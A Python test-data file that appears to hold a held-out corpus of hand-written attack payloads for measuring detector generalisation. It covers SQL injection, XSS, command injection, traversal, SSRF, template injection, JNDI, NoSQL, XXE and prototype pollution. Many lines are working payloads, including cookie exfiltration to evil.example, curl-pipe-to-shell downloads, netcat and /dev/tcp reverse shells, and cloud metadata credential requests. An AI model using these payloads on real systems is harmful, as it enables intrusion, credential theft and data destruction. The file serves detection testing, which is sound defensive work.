"""Hand-written attack payloads for the held-out corpus, one list per class.

Written from knowledge of how each attack is built, without looking at the main corpus's payloads
(`tests/corpus/gen/attacks.py`) or at the detectors' fixtures, so the set measures how the detectors generalise.
"""

SQLI = [
    "' or 2>1 -- ",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(3))x)",
    "admin'/**/or/**/'x'='x",
    "1;WAITFOR DELAY '0:0:4'--",
    "' UNION ALL SELECT NULL,username,password FROM users#",
    "1) or pg_sleep(2)--",
    "-1 union select table_name,2 from information_schema.tables",
    "x' AND extractvalue(1,concat(0x7e,(select user())))-- -",
    "' OR 'a' LIKE 'a",
    "1' ORDER BY 7-- -",
    "'; DROP TABLE sessions; --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(1) ELSE pg_sleep(0) END)--",
    "\"; exec xp_cmdshell 'dir'--",
    "1 or benchmark(5000000,md5(1))",
    "') OR ('1'='1",
    "0 UNION/*!50000SELECT*/ 1,2,3",
    "1' and substring(@@version,1,1)='5",
    "' AND 1=(SELECT COUNT(*) FROM all_tables WHERE ROWNUM=1)--",
    "9999 or 1 in (select top 1 name from sysobjects)",
    "' HAVING 1=1--",
    "x'; INSERT INTO admins(name) VALUES('eve');--",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "'-sleep(3)-'",
    "1 AND updatexml(null,concat(0x3a,database()),null)",
    "' or true--",
    "1 and ascii(substr((select password from users limit 1),1,1))>64",
    "'); SELECT pg_read_file('/etc/passwd');--",
]

XSS = [
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=confirm(1)>",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "</script><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<video><source onerror=\"alert(1)\"></video>",
    "javascript:eval(atob('YWxlcnQoMSk='))",
    "<marquee onstart=alert(1)>hi</marquee>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<embed src=\"javascript:alert(1)\">",
    "\" onmouseover=\"alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=1 onerror=this.src='//x.example/?'+document.cookie>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<div onpointerenter=\"location='//evil.example'\">x</div>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<textarea autofocus onfocus=prompt(1)></textarea>",
]

CMDI = [
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(whoami)",
    "`id`",
    "127.0.0.1 && curl http://evil.example/x.sh | sh",
    "x || wget -qO- http://evil.example/p | bash",
    ";${IFS}cat${IFS}/etc/shadow",
    "a\nid",
    "a;ping -c 3 attacker.example",
    "& powershell -enc SQBFAFgA",
    "| type C:\\Windows\\win.ini",
    "; bash -i >& /dev/tcp/10.0.0.5/9001 0>&1",
    "$(curl -s evil.example/$(hostname))",
    ";{cat,/etc/hosts}",
    "; sleep 10 #",
    "file.txt; rm -rf /tmp/*",
    "' ; uname -a ; '",
    "| python3 -c 'import os;os.system(\"id\")'",
    "& certutil -urlcache -f http://evil.example/a.exe a.exe",
    ";c''at /e''tc/pa''sswd",
    "`nslookup x.evil.example`",
    "|| /bin/busybox telnetd -p 2323",
]

TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/hosts",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/var/www/../../etc/shadow",
    "..%c0%af..%c0%afetc/passwd",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../../proc/self/environ",
    "..%5c..%5cboot.ini",
    "C:\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "../../../etc/passwd%00.png",
    "/..;/..;/WEB-INF/web.xml",
    "..%252f..%252fetc%252fpasswd",
    "/static/../../../../root/.ssh/id_rsa",
    "....\\\\....\\\\inetpub\\\\wwwroot\\\\web.config",
    "../../../../var/log/nginx/access.log",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group",
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.1:8080/admin",
    "http://0x7f000001/",
    "http://2130706433/",
    "http://[::1]:6379/",
    "http://localhost:2375/containers/json",
    "http://metadata.google.internal/computeMetadata/v1/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://10.0.0.12:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/admin",
    "http://[::ffff:127.0.0.1]/",
    "http://0177.0.0.1/",
    "http://evil.example@127.0.0.1/",
    "http://172.16.5.4:8500/v1/agent/self",
    "http://100.100.100.200/latest/meta-data/",
    "http://0.0.0.0:8080/actuator/env",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "dict://localhost:11211/stats",
    "https://127.0.0.1:10250/pods",
    "http://169.254.170.2/v2/credentials",
]

SSTI = [
    "{{7*'7'}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= system(\"id\") %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x=$class.forName(\"java.lang.Runtime\"))$x.getRuntime().exec(\"id\")",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{php}echo `id`;{/php}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "*{T(java.lang.System).getenv()}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "${{7*7}}",
    "{{lipsum.__globals__.os.popen('whoami').read()}}",
]

JNDI = [
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://10.1.2.3:1099/obj}",
    "${${lower:j}ndi:${lower:l}dap://x.example/}",
    "${jndi:dns://x.evil.example}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/z}",
    "${jndi:ldaps://e.example:636/q}",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e.example/}",
    "${jndi:iiop://e.example/}",
    "${j${k8s:k5:-ND}i:ldap://e.example/}",
    "${jndi:${lower:L}DAP://e.example/}",
    "${${upper:j}ndi:corba://e.example/}",
    "${jndi:nds://e.example/}",
]

# NoSQL: JSON documents (sent as the body) and bracket-syntax query/form strings.
NOSQL_JSON = [
    '{"username": {"$ne": null}, "password": {"$ne": null}}',
    '{"email": {"$regex": "^a.*"}, "password": {"$gt": ""}}',
    '{"$where": "this.password.length > 0"}',
    '{"user": "admin", "pass": {"$nin": ["x"]}}',
    '{"token": {"$exists": true}}',
    '{"$or": [{"role": "admin"}, {"a": {"$ne": 1}}]}',
    '{"filter": {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}}',
    '{"login": "bob", "password": {"$regex": ".*"}}',
    '{"q": {"name": {"$where": "sleep(500)"}}}',
    '{"user_id": {"$gte": 0}}',
]
NOSQL_FORM = [
    "username[$ne]=x&password[$ne]=x",
    "user[$regex]=.%2A&pass[$exists]=true",
    "pin[$gt]=&email=a%40example.com",
    "login=admin&password[$nin][]=a",
    "id[$where]=1",
]

XXE = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><name>&x;</name></r>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]><d/>',
    '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hosts">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="9">&h;</text></svg>',
    '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY k SYSTEM "file:///c:/windows/win.ini">]>'
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><q>&k;</q></soap:Body>'
    '</soap:Envelope>',
    '<?xml version="1.0"?><!DOCTYPE note SYSTEM "http://evil.example/note.dtd"><note>hi</note>',
    '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><z>&c;</z>',
    '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">'
    '<!ENTITY % expr \'aaa)><!ENTITY x SYSTEM "file:///etc/passwd">\'> %l;]><m/>',
    '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY s SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>'
    '<p>&s;</p>',
    '<?xml version="1.0"?><!DOCTYPE e [<!ENTITY c SYSTEM "expect://id">]><e>&c;</e>',
    '<!DOCTYPE order [<!ENTITY ext PUBLIC "-//X//Y" "http://10.0.0.8/secret">]><order><id>&ext;</id></order>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY % d SYSTEM '
    '"https://evil.example/x.dtd">%d;%send;]><r/>',
]

# Prototype pollution: JSON documents and query/form keys.
PROTO_JSON = [
    '{"__proto__": {"isAdmin": true}}',
    '{"constructor": {"prototype": {"admin": true}}}',
    '{"settings": {"__proto__": {"shell": "/bin/sh"}}}',
    '{"user": {"constructor": {"prototype": {"role": "admin"}}}}',
    '{"a": 1, "__proto__": {"toString": "x"}}',
    '{"patch": [{"op": "add", "path": "/__proto__/polluted", "value": true}]}',
]
PROTO_QUERY = [
    "__proto__[admin]=1",
    "constructor[prototype][role]=admin",
    "__proto__.polluted=1",
    "a[__proto__][x]=1",
    "filter[constructor][prototype][isAdmin]=true",
    "x.constructor.prototype.y=1",
]
